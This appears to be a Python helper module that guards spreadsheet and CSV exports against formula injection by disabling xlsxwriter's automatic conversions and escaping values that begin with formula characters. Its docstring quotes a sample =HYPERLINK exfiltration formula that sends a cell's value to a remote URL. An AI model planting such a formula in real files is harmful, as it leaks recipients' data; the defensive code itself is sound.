"""The one way the suite writes spreadsheets: text stays text.

xlsxwriter's defaults turn a string that starts with ``=`` into a live formula and a
string that looks like a link into a hyperlink, so a dealer named
``=HYPERLINK("http://…?leak="&B4,"…")`` would ship a working formula inside every
statement that names it. Workbooks made by :func:`new_workbook` write every ``str``
as a string cell; :func:`safe_text` additionally neutralizes the values that come
from users (names, memos, references) as OWASP advises for CSV/spreadsheet files, so
that re-typing or re-importing the cell (Excel, LibreOffice, a CSV round trip) does
not turn it into a formula either.

No database and no Odoo import here: the suite's pytest checks load this file alone.
"""
import xlsxwriter

# a spreadsheet treats a cell starting with one of these as a formula (or a DDE call)
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")

# the options no caller may change: they are the point of the helper
SAFE_OPTIONS = {
    "strings_to_formulas": False,
    "strings_to_urls": False,
    "strings_to_numbers": False,
}


def new_workbook(output, **options):
    """An ``xlsxwriter.Workbook`` writing into ``output`` (a path or a file object such
    as ``io.BytesIO``) in memory, where every ``str`` written with ``worksheet.write``
    is a string cell: never a formula, a URL or a number. ``options`` are other
    xlsxwriter workbook options (``default_date_format``…)."""
    return xlsxwriter.Workbook(output, {"in_memory": True, **options, **SAFE_OPTIONS})


def safe_text(value):
    """``value`` as text for a spreadsheet cell or a CSV field: empty for ``None`` /
    ``False``, prefixed with an apostrophe when it starts with ``= + - @``, a tab or a
    carriage return (OWASP CSV injection), unchanged otherwise."""
    if value is None or value is False:
        return ""
    text = str(value)
    if text.startswith(FORMULA_PREFIXES):
        return "'" + text
    return text
